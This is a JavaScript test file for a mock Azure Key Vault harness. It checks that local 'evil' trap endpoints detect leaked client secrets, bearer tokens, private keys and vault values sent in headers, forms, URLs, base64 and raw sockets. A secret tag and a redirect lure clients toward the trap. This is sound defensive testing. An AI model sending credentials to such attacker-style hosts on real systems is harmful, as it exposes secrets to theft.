// SPDX-License-Identifier: GPL-3.0-or-later
// A trap records everything: whatever is sent to it, in any encoding, is counted and recognised. Otherwise a trap that
// saw nothing would prove nothing.

import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { connect } from 'node:net';
import { API, call, scratch, Vault } from './harness.mjs';
import { run, test } from './tap.mjs';

const TENANT = '11111111-2222-3333-4444-555555555555';
const SECRET = 's3cret~1/+&= with space';
const VALUE = 'the value of a secret';

const vault = await Vault.start({
	tenants: [{ id: TENANT }],
	clients: [{ id: 'app', secret: SECRET, certificates: [{ make: 'app' }], federated: [{ make: 'pod' }] }],
	identities: [{ name: 'vm', kind: 'system' }],
	managed: { imds: {}, appService: {}, arc: {} },
	traps: ['evil', { name: 'quiet', hosts: ['contoso-kv.vault.azure.net.evil.example'] }],
	vaults: [{ name: 'contoso-kv', secrets: [{ name: 's', versions: [{ value: VALUE, tags: { to: '{trap:evil}/x {trap-http:quiet}' } }] }] }],
	faults: [{ match: { path: '^/secrets/redirected' }, action: { type: 'redirect', location: '{trap-http:evil}/there' } }],
}, scratch());
const { evil, quiet } = vault.ready.traps;

const report = () => vault.control('GET', '/traps');
const NOTHING = { connections: 0, tlsErrors: 0, requests: 0, bytes: 0, authorization: 0, bodies: 0, leaks: 0 };

const token = async () => (await vault.signIn({
	grant_type: 'client_credentials', client_id: 'app', client_secret: SECRET, scope: 'https://vault.azure.net/.default',
}, TENANT)).json.access_token;

/** Sends a request to the trap and returns what the trap recorded. */
async function caught(url, options = {}) {
	await vault.control('DELETE', '/traps');
	await call(url, { ca: vault.ca, ...options });
	const { traps, requests } = await report();
	assert.equal(requests.length, 1);
	return { counts: traps.evil, ...requests[0] };
}

test('nothing was sent: every count is 0, although the vault itself was used', async () => {
	assert.equal((await vault.call(`/secrets/s?${API}`, { token: await token() })).json.value, VALUE);
	assert.deepEqual(await report(), { total: NOTHING, traps: { evil: NOTHING, quiet: NOTHING }, requests: [] });
});

test('a request without secrets is counted, and leaks nothing', async () => {
	for (const url of [evil.url, evil.http]) {
		const { counts, leaks, method, authorization } = await caught(`${url}/secrets?${API}`);
		assert.deepEqual([leaks, method, authorization], [[], 'GET', null]);
		assert.deepEqual([counts.connections, counts.requests, counts.authorization, counts.bodies, counts.leaks], [1, 1, 0, 0, 0]);
		assert.ok(counts.bytes > 50);
	}
});

test('a token in a header, over TLS and in the clear', async () => {
	const value = await token();
	for (const url of [evil.url, evil.http]) {
		const { counts, leaks, authorization } = await caught(`${url}/secrets?${API}`, { headers: { Authorization: `Bearer ${value}` } });
		assert.deepEqual([leaks, authorization], [['access token of app'], 'Bearer']);
		assert.deepEqual([counts.authorization, counts.leaks], [1, 1]);
	}
});

test('a client secret in a form, in the URL, in base64; secrets, keys and tokens of every kind', async () => {
	const pem = readFileSync(vault.ready.certificates.app[''], 'utf8');
	const pod = readFileSync(vault.ready.federated.pod, 'utf8').trim();
	const arc = await call(vault.ready.managed.arc.url + '?api-version=2020-06-01&resource=https%3A%2F%2Fvault.azure.net', { headers: { Metadata: 'true' } });
	const arcKey = readFileSync(arc.headers['www-authenticate'].slice('Basic realm='.length), 'utf8');
	const bodies = [
		[new URLSearchParams({ client_secret: SECRET }).toString(), 'secret of app'], [SECRET, 'secret of app'],
		[Buffer.from(`app:${SECRET}`).toString('base64'), 'secret of app'], [Buffer.from(SECRET).toString('base64url'), 'secret of app'],
		[encodeURIComponent(Buffer.from(SECRET).toString('base64')), 'secret of app'],
		[JSON.stringify({ value: VALUE }), 'value of contoso-kv/s'], [pem.split('\n')[5], 'private key app'], [pod, 'federated token pod'],
		[`x=${arcKey}`, 'Arc key'], [vault.ready.managed.appService.header, 'App Service header'],
	];
	for (const [body, label] of bodies) {
		const { leaks, counts, bodyBytes } = await caught(`${evil.url}/${TENANT}/oauth2/v2.0/token`, { method: 'POST', body });
		assert.deepEqual(leaks, [label], body);
		assert.deepEqual([counts.bodies, bodyBytes], [1, body.length]);
	}
	assert.deepEqual((await caught(`${evil.url}/?s=${encodeURIComponent(SECRET)}`)).leaks, ['secret of app']);
});

test('bytes that are not HTTP are kept and searched too', async () => {
	await vault.control('DELETE', '/traps');
	await new Promise((done) => {
		const socket = connect(Number(new URL(evil.http).port), '127.0.0.1', () => socket.write(`\x16\x03\x01 ${SECRET}\r\n\r\n`));
		socket.on('close', done).on('error', done).resume();
	});
	const { total } = await report();
	assert.deepEqual([total.connections, total.requests, total.leaks], [1, 0, 1]);
});

test('a client whose TLS handshake fails is noted, with no data', async () => {
	await vault.control('DELETE', '/traps');
	await call(evil.url);
	const { total } = await report();
	assert.deepEqual([total.connections, total.bytes, total.leaks], [1, 0, 0]);
});

test('it tempts: a challenge, then empty answers; a token for anybody who asks', async () => {
	const first = await call(`${evil.url}/secrets`, { ca: vault.ca });
	assert.deepEqual([first.status, /resource="https:\/\/vault.azure.net"/.test(first.headers['www-authenticate'])], [401, true]);
	const second = await call(`${evil.url}/secrets`, { ca: vault.ca, headers: { Authorization: 'Bearer x' } });
	assert.deepEqual([second.status, second.text], [200, '{"value":[],"nextLink":null}']);
	const third = await call(`${evil.url}/${TENANT}/oauth2/v2.0/token`, { ca: vault.ca, method: 'POST', body: 'x=y' });
	assert.equal(third.status, 200);
});

test('placeholders and names resolve to the trap', async () => {
	const value = await token();
	const { tags } = (await vault.call(`/secrets/s?${API}`, { token: value })).json;
	assert.equal(tags.to, `${evil.url}/x ${quiet.http}`);
	assert.equal((await vault.call(`/secrets/redirected?${API}`)).headers.location, `${evil.http}/there`);
	await vault.control('DELETE', '/traps');
	await call(`${evil.url}/`, { ca: vault.ca, headers: { Host: 'contoso-kv.vault.azure.net.evil.example' } });
	assert.equal((await report()).traps.quiet.requests, 1);
});

test('a connection that outlives DELETE /traps is still recorded', async () => {
	const agent = vault.agent;
	await call(`${evil.url}/`, { agent });
	await vault.control('DELETE', '/traps');
	await call(`${evil.url}/`, { agent, headers: { Authorization: `Bearer ${await token()}` } });
	const { total } = await report();
	assert.deepEqual([total.connections, total.requests, total.leaks], [0, 1, 1]);
});

await run(() => vault.stop());
